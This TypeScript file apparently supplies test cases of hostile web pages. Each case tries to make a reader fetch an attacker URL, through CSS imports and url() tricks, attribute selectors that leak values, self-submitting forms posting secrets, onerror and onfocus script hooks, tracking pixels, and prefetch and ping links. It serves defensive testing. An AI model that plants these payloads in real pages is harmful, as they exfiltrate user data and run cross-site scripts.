// Web pages that try to make the reader fetch something: CSS in every place a URL hides, responsive images,
// forms that submit themselves, and every kind of link a browser follows ahead of time.
import { aroundWords, type HtmlCaseMaker } from './html-page';

export const CSS_CASES: HtmlCaseMaker[] = [
  (p) => ({
    category: 'css',
    description: 'style import from the attacker',
    head: `<style>@import url("${p.url('import')}");</style>`,
  }),
  (p) => ({
    category: 'css',
    description: 'style import without url()',
    head: `<style>@import '${p.url('import-bare')}';</style>`,
  }),
  (p) => ({
    category: 'css',
    description: 'background image on the sentence',
    sentence: aroundWords(
      'inquiry',
      (w) => `<span style="background:url(${p.url('background')})">${w}</span>`,
    ),
  }),
  (p) => ({
    category: 'css',
    description: 'IE expression and behaviors',
    head: `<style>p{width:expression(${p.js('expression')});behavior:url(${p.url('htc')});}</style>`,
    before: `<div style="xss:expr/**/ession(${p.js('expr-comment')})">Old browsers.</div>`,
  }),
  (p) => ({
    category: 'css',
    description: 'Mozilla binding',
    head: `<style>body{-moz-binding:url("${p.url('xbl')}#xss")}</style>`,
  }),
  (p) => ({
    category: 'css',
    description: 'web font from the attacker',
    head: `<style>@font-face{font-family:x;src:url(${p.url('font')}) format("woff2")}body{font-family:x}</style>`,
  }),
  (p) => ({
    category: 'css',
    description: 'external stylesheet links',
    head: `<link rel="stylesheet" href="${p.url('stylesheet')}"><link rel="alternate stylesheet" title="x" href="${p.url('alt-css')}">`,
  }),
  (p) => ({
    category: 'css',
    description: 'style element breakout',
    head: `<style>p{color:red}</style><script>${p.js('style-breakout')}</script><style></style>`,
    before: `<style>/*</style><img src=x onerror=${p.js('style-comment')}>*/</style>`,
  }),
  (p) => ({
    category: 'css',
    description: 'image-set, cursor and list images',
    head: `<style>li{list-style-image:url(${p.url('list')})}h1{cursor:url(${p.url('cursor')}),auto;background-image:image-set("${p.url('image-set')}" 1x)}</style>`,
  }),
  (p) => ({
    category: 'css',
    description: 'escaped url function in a style attribute',
    before: `<div style="background:\\75\\72\\6c(${p.url('escaped')})">Escaped.</div>`,
  }),
  (p) => ({
    category: 'css',
    description: 'attribute selectors that leak characters',
    head: `<style>input[value^="a"]{background:url(${p.url('leak-a')})}a[href*="token"]{background:url(${p.url('leak-token')})}</style>`,
    before: `<input value="abc">`,
  }),
  (p) => ({
    category: 'css',
    description: 'style hiding text over the sentence',
    head: `<style>article p{display:none}article p::after{content:url(${p.url('content-url')})}</style>`,
  }),
];

export const SRCSET_CASES: HtmlCaseMaker[] = [
  (p) => ({
    category: 'srcset',
    description: 'img srcset',
    before: `<img srcset="${p.url('srcset-1x')} 1x, ${p.url('srcset-2x')} 2x" alt="Cranes">`,
  }),
  (p) => ({
    category: 'srcset',
    description: 'picture sources',
    before: `<picture><source srcset="${p.url('source')}" type="image/webp"><source media="(min-width:1px)" srcset="${p.url('source-media')}"><img src="${p.url('picture-img')}"></picture>`,
  }),
  (p) => ({
    category: 'srcset',
    description: 'lazy and sized images',
    before: `<img loading="lazy" src="${p.url('lazy')}" sizes="50vw" srcset="${p.url('sized')} 800w">`,
  }),
  (p) => ({
    category: 'srcset',
    description: 'video poster, track and audio',
    before: `<video poster="${p.url('poster')}" src="${p.url('video')}"><track src="${p.url('track')}"></video><audio src="${p.url('audio')}" autoplay></audio>`,
  }),
  (p) => ({
    category: 'srcset',
    description: 'image input',
    before: `<input type="image" src="${p.url('input-image')}">`,
  }),
  (p) => ({
    category: 'srcset',
    description: 'image inside the sentence',
    sentence: aroundWords(
      'cranes',
      (w) => `${w}<img src="${p.url('inline-img')}" srcset="${p.url('inline-srcset')} 2x">`,
    ),
  }),
  (p) => ({
    category: 'srcset',
    description: 'table and body background attributes',
    bodyAttributes: `background="${p.url('body-bg')}"`,
    before: `<table background="${p.url('table-bg')}"><tr><td background="${p.url('td-bg')}">Cell.</td></tr></table>`,
  }),
  (p) => ({
    category: 'srcset',
    description: 'tracking pixel and lowsrc',
    before: `<img src="${p.url('pixel')}" width="1" height="1"><img lowsrc="${p.url('lowsrc')}" dynsrc="${p.url('dynsrc')}">`,
  }),
];

export const FORM_CASES: HtmlCaseMaker[] = [
  (p) => ({
    category: 'form',
    description: 'form posting to the attacker',
    before: `<form method="post" action="${p.url('form-post')}"><input name="secret" value="1"><button>Send</button></form>`,
  }),
  (p) => ({
    category: 'form',
    description: 'self-submitting form',
    before: `<form id="f" action="${p.url('autosubmit')}"><input type="hidden" name="a" value="b"></form><script>document.getElementById(\`f\`).submit()</script><img src=x onerror=document.forms[0].submit()>`,
  }),
  (p) => ({
    category: 'form',
    description: 'formaction on buttons and inputs',
    before: `<form><button formaction="${p.url('formaction')}">Go</button><input type="submit" formaction="${p.url('input-formaction')}"></form>`,
  }),
  (p) => ({
    category: 'form',
    description: 'form controls inside the sentence',
    before: `<form id="inline-form" action="${p.url('inline-form')}" target="_blank"></form>`,
    sentence: aroundWords(
      'harbour inquiry',
      (w) =>
        `${w}<input form="inline-form" type="submit" formaction="${p.url('inline-formaction')}" value="Go" autofocus onfocus="${p.js('inline-onfocus')}">`,
    ),
  }),
  (p) => ({
    category: 'form',
    description: 'isindex and button outside a form',
    before: `<isindex action="${p.url('isindex')}"><button form="f2" formaction="${p.url('remote-form')}">X</button><form id="f2"></form>`,
  }),
];

export const LINK_CASES: HtmlCaseMaker[] = [
  (p) => ({
    category: 'link-prefetch',
    description: 'link prefetch',
    head: `<link rel="prefetch" href="${p.url('prefetch')}">`,
  }),
  (p) => ({
    category: 'link-prefetch',
    description: 'link preload',
    head: `<link rel="preload" as="script" href="${p.url('preload')}">`,
  }),
  (p) => ({
    category: 'link-prefetch',
    description: 'dns-prefetch and preconnect',
    head: `<link rel="dns-prefetch" href="${p.url('dns')}"><link rel="preconnect" href="${p.url('preconnect')}">`,
  }),
  (p) => ({
    category: 'link-prefetch',
    description: 'prerender and speculation rules',
    head: `<link rel="prerender" href="${p.url('prerender')}"><script type="speculationrules">{"prerender":[{"source":"list","urls":["${p.url('speculation')}"]}]}</script>`,
  }),
  (p) => ({
    category: 'link-prefetch',
    description: 'modulepreload',
    head: `<link rel="modulepreload" href="${p.url('modulepreload')}">`,
  }),
  (p) => ({
    category: 'link-prefetch',
    description: 'HTML import',
    head: `<link rel="import" href="${p.url('html-import')}">`,
  }),
  (p) => ({
    category: 'link-prefetch',
    description: 'manifest and icons',
    htmlAttributes: `manifest="${p.url('appcache')}"`,
    head: `<link rel="manifest" href="${p.url('manifest')}"><link rel="icon" href="${p.url('icon')}"><link rel="apple-touch-icon" href="${p.url('touch')}">`,
  }),
  (p) => ({
    category: 'link-prefetch',
    description: 'canonical, alternate and pingback links',
    head: `<link rel="canonical" href="${p.jsUrl('canonical')}"><link rel="alternate" type="application/rss+xml" href="${p.url('rss')}"><link rel="pingback" href="${p.url('pingback')}">`,
  }),
  (p) => ({
    category: 'link-prefetch',
    description: 'link elements in the body',
    before: `<link rel="stylesheet" href="${p.url('body-css')}"><link rel="prefetch" href="${p.url('body-prefetch')}">`,
  }),
  (p) => ({
    category: 'link-prefetch',
    description: 'anchors with ping and download',
    sentence: aroundWords(
      'reported',
      (w) => `<a href="${p.url('ping-target')}" ping="${p.url('ping')}" download="x.html">${w}</a>`,
    ),
  }),
];
